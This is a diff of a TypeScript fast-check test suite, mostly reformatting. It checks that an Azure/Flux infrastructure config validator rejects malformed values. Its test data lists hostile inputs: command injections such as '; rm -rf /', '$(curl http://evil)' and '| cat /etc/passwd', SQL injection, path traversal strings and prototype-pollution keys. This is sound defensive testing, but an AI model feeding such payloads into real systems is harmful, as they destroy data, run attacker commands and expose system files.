@@ -25,7 +25,17 @@ interface Leaf {
     required?: boolean;
 }
 
-const INJECTIONS = ["; rm -rf /", "$(curl http://evil)", "`id`", "' OR '1'='1", '"; drop table', "| cat /etc/passwd", "\n\tinjected: true", "${HOME}", "\u0000"];
+const INJECTIONS = [
+    "; rm -rf /",
+    "$(curl http://evil)",
+    "`id`",
+    "' OR '1'='1",
+    '"; drop table',
+    "| cat /etc/passwd",
+    "\n\tinjected: true",
+    "${HOME}",
+    "\u0000",
+];
 const TRAVERSAL = ["../", "/..", "/etc/passwd", "\\windows", "./a/../../b", "~/", "..", "./x/..\\y"];
 const BAD_NAME = [...INJECTIONS, " ", "_", "/", "A", "..", "é"];
 
@@ -49,19 +59,38 @@ const LEAVES: Leaf[] = [
     { path: ["aks", "apiServer", "authorizedIpRanges", 0], kind: "string", refuse: [...INJECTIONS, "/40", "x"] },
     { path: ["aks", "apiServer", "privateCluster"], kind: "bool" },
     { path: ["aks", "upgradeChannel"], kind: "enum", values: ["none", "patch", "stable", "rapid", "node-image"] },
-    { path: ["aks", "maintenance", "autoUpgrade", "startTime"], kind: "string", refuse: [...INJECTIONS, "25", ":99", "x"] },
+    {
+        path: ["aks", "maintenance", "autoUpgrade", "startTime"],
+        kind: "string",
+        refuse: [...INJECTIONS, "25", ":99", "x"],
+    },
     { path: ["aks", "maintenance", "nodeOs", "durationHours"], kind: "int", range: [4, 24] },
     { path: ["aks", "imageCleanerIntervalHours"], kind: "int", range: [24, 2160] },
-    { path: ["sops", "vaultName"], kind: "string", refuse: [...BAD_NAME.filter((f) => f !== "A"), "--", ".", "_"], required: true },
+    {
+        path: ["sops", "vaultName"],
+        kind: "string",
+        refuse: [...BAD_NAME.filter((f) => f !== "A"), "--", ".", "_"],
+        required: true,
+    },
     { path: ["sops", "keySize"], kind: "enum", values: ["3072", "4096"] },
     { path: ["sops", "softDeleteRetentionDays"], kind: "int", range: [7, 90] },
     { path: ["sops", "purgeProtection"], kind: "bool" },
     { path: ["sops", "allowedIpRanges", 0], kind: "string", refuse: [...INJECTIONS, "10.0.0.0/8", "x"] },
     { path: ["sops", "rotation", "expireAfter"], kind: "string", refuse: [...INJECTIONS, "PT", "Q", "x"] },
-    { path: ["flux", "git", "url"], kind: "string", refuse: [" ", "'", '"', "$(id)", "`id`", "\\", "\n"], required: true },
+    {
+        path: ["flux", "git", "url"],
+        kind: "string",
+        refuse: [" ", "'", '"', "$(id)", "`id`", "\\", "\n"],
+        required: true,
+    },
     { path: ["flux", "git", "branch"], kind: "string", refuse: [...INJECTIONS, " ", "~", ":", "^"] },
     { path: ["flux", "git", "syncIntervalSeconds"], kind: "int", range: [60, 86400] },
-    { path: ["flux", "kustomizations", "cluster", "path"], kind: "string", refuse: [...TRAVERSAL, ...INJECTIONS], required: true },
+    {
+        path: ["flux", "kustomizations", "cluster", "path"],
+        kind: "string",
+        refuse: [...TRAVERSAL, ...INJECTIONS],
+        required: true,
+    },
     { path: ["flux", "kustomizations", "cluster", "prune"], kind: "bool" },
     { path: ["flux", "kustomizations", "cluster", "dependsOn"], kind: "list" },
     { path: ["flux", "extensionVersion"], kind: "string", refuse: [...INJECTIONS, "latest", "v1", "x"] },
@@ -93,8 +122,17 @@ const set = (path: Path, value: unknown) => (config: ConfigObject) => {
     parentOf(config, path)[path[path.length - 1]] = value;
 };
 
-const structural = fc.oneof(fc.constant([1, 2]), fc.constant({ nested: "x" }), fc.array(fc.string(), { maxLength: 2 }).map((a) => ({ a })));
-const wrongScalar = fc.oneof(fc.string({ maxLength: 8 }).map((s) => `s${s}`), fc.boolean(), fc.constant(null), structural);
+const structural = fc.oneof(
+    fc.constant([1, 2]),
+    fc.constant({ nested: "x" }),
+    fc.array(fc.string(), { maxLength: 2 }).map((a) => ({ a })),
+);
+const wrongScalar = fc.oneof(
+    fc.string({ maxLength: 8 }).map((s) => `s${s}`),
+    fc.boolean(),
+    fc.constant(null),
+    structural,
+);
 
 // One arbitrary per leaf, built once: building fc.stringMatching is what costs (it tokenizes and pre-slices), not
 // drawing from it; an arbitrary is stateless, so reusing it draws exactly the same values for the same seed.
@@ -136,7 +174,15 @@ function buildInvalidValue(leaf: Leaf): fc.Arbitrary<unknown> {
             const hostile = fc
                 .tuple(fc.stringMatching(/^[a-z][a-z0-9]{2,10}$/), fc.constantFrom(...leaf.refuse!), fc.boolean())
                 .map(([base, bad, front]) => (front ? `${bad}${base}` : `${base}${bad}`));
-            return leaf.text ? fc.oneof(hostile, structural) : fc.oneof(hostile, fc.integer(), fc.boolean(), structural, fc.string({ minLength: 1000, maxLength: 1200 }));
+            return leaf.text
+                ? fc.oneof(hostile, structural)
+                : fc.oneof(
+                      hostile,
+                      fc.integer(),
+                      fc.boolean(),
+                      structural,
+                      fc.string({ minLength: 1000, maxLength: 1200 }),
+                  );
         }
         case "list":
             return fc.oneof(fc.string(), fc.integer(), fc.constant({ not: "a list" }));
@@ -146,29 +192,51 @@ function buildInvalidValue(leaf: Leaf): fc.Arbitrary<unknown> {
 }
 
 const UNKNOWN_KEYS = ["__proto__", "constructor", "sytemPool", "$(whoami)", "a;b", "../../x", "Environment"];
-const OBJECTS: Path[] = [[], ["aks"], ["aks", "systemPool"], ["aks", "network"], ["sops"], ["flux"], ["flux", "git"], ["fleet"]];
+const OBJECTS: Path[] = [
+    [],
+    ["aks"],
+    ["aks", "systemPool"],
+    ["aks", "network"],
+    ["sops"],
+    ["flux"],
+    ["flux", "git"],
+    ["fleet"],
+];
 
 const mutation: fc.Arbitrary<Mutation> = fc.oneof(
-    { weight: 6, arbitrary: fc.constantFrom(...LEAVES).chain((leaf) => invalidValue(leaf).map((value) => ({ describe: `${configKey(leaf.path)} = ${JSON.stringify(value)?.slice(0, 60)}`, apply: set(leaf.path, value), expectKey: leaf.path }))) },
+    {
+        weight: 6,
+        arbitrary: fc.constantFrom(...LEAVES).chain((leaf) =>
+            invalidValue(leaf).map((value) => ({
+                describe: `${configKey(leaf.path)} = ${JSON.stringify(value)?.slice(0, 60)}`,
+                apply: set(leaf.path, value),
+                expectKey: leaf.path,
+            })),
+        ),
+    },
     {
         weight: 1,
         arbitrary: fc.constantFrom(...LEAVES.filter((l) => l.required)).map((leaf) => ({
             describe: `${configKey(leaf.path)} missing`,
-            apply: (config: ConfigObject) => void delete parentOf(config, leaf.path, false)[leaf.path[leaf.path.length - 1]],
+            apply: (config: ConfigObject) =>
+                void delete parentOf(config, leaf.path, false)[leaf.path[leaf.path.length - 1]],
             expectKey: leaf.path,
         })),
     },
     {
         weight: 1,
-        arbitrary: fc.tuple(fc.constantFrom(...OBJECTS), fc.constantFrom(...UNKNOWN_KEYS), wrongScalar).map(([at, key, value]) => ({
-            describe: `unknown key ${configKey([...at, key])}`,
-            apply: (config: ConfigObject) => {
-                const parent = at.length === 0 ? config : (parentOf(config, [...at, "x"]) as Record<string, unknown>);
-                Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
-            },
-            expectKey: at,
-            expectText: JSON.stringify(key),
-        })),
+        arbitrary: fc
+            .tuple(fc.constantFrom(...OBJECTS), fc.constantFrom(...UNKNOWN_KEYS), wrongScalar)
+            .map(([at, key, value]) => ({
+                describe: `unknown key ${configKey([...at, key])}`,
+                apply: (config: ConfigObject) => {
+                    const parent =
+                        at.length === 0 ? config : (parentOf(config, [...at, "x"]) as Record<string, unknown>);
+                    Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
+                },
+                expectKey: at,
+                expectText: JSON.stringify(key),
+            })),
     },
 );
 
@@ -184,11 +252,16 @@ describe("bad input, tried at scale (fast-check)", function () {
                 const config = JSON.parse(JSON.stringify(baseConfig(environment))) as ConfigObject;
                 m.apply(config);
                 const c = await runProgram(stackInput(config), { allowFailure: true });
-                assert.ok(c.error instanceof ConfigError, `${m.describe}: expected a ConfigError, got ${c.error === undefined ? "no error" : inspect(c.error)}`);
+                assert.ok(
+                    c.error instanceof ConfigError,
+                    `${m.describe}: expected a ConfigError, got ${c.error === undefined ? "no error" : inspect(c.error)}`,
+                );
                 assert.equal(c.resources.length, 0, `${m.describe}: registered ${c.resources.length} resources`);
                 const wanted = configKey(m.expectKey);
                 const named = c.error.issues.some(
-                    (i) => configKey(i.path) === wanted && (m.expectText === undefined || i.message.includes(m.expectText)),
+                    (i) =>
+                        configKey(i.path) === wanted &&
+                        (m.expectText === undefined || i.message.includes(m.expectText)),
                 );
                 assert.ok(named, `${m.describe}: no problem names ${wanted}; got:\n${c.error.message}`);
             }),
